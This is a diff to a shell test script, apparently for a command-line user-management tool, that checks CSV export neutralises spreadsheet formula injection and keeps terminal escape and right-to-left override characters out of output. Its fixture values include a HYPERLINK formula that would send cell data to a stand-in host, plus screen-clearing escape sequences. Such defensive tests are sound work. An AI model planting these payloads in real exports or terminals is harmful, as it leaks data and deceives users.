@@ -61,10 +61,12 @@ assert_not_contains "$OUT" "$RLO"
 assert_json '.[] | select(.username == "trudy") | .display_name' "${ESC}[2J${ESC}[31mTrudy${RLO}evil"
 
 note "CSV: formulas neutralised"
-rctl_ok user list --format csv
+rctl_ok user list --format csv --columns username,status,display_name,email,department,location,title
 line=$(grep '^trudy,' <<<"$OUT")
 assert_eq "trudy,invited,${ESC}[2J${ESC}[31mTrudy${RLO}evil,'+trudy@example.com,'-2+3,'@SUM(1),\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"" \
 	"$line" "CSV row of trudy"
+rctl_ok user list --format csv
+assert_match "$(grep '^trudy,' <<<"$OUT")" ",'-2\+3$" "the default CSV's custom field column neutralised too"
 rctl_ok runs --format csv
 assert_match "$OUT" '^1,[0-9T:Z-]+,ok,[0-9.]+,' "numbers are not prefixed"
 
